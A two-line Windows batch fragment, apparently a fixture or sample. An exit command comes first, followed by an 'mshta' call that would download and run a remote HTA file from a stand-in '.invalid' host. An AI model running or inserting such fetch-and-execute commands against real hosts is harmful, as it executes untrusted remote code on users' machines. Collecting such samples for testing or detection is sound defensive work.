@exit /b
mshta https://get.invalid/x.hta
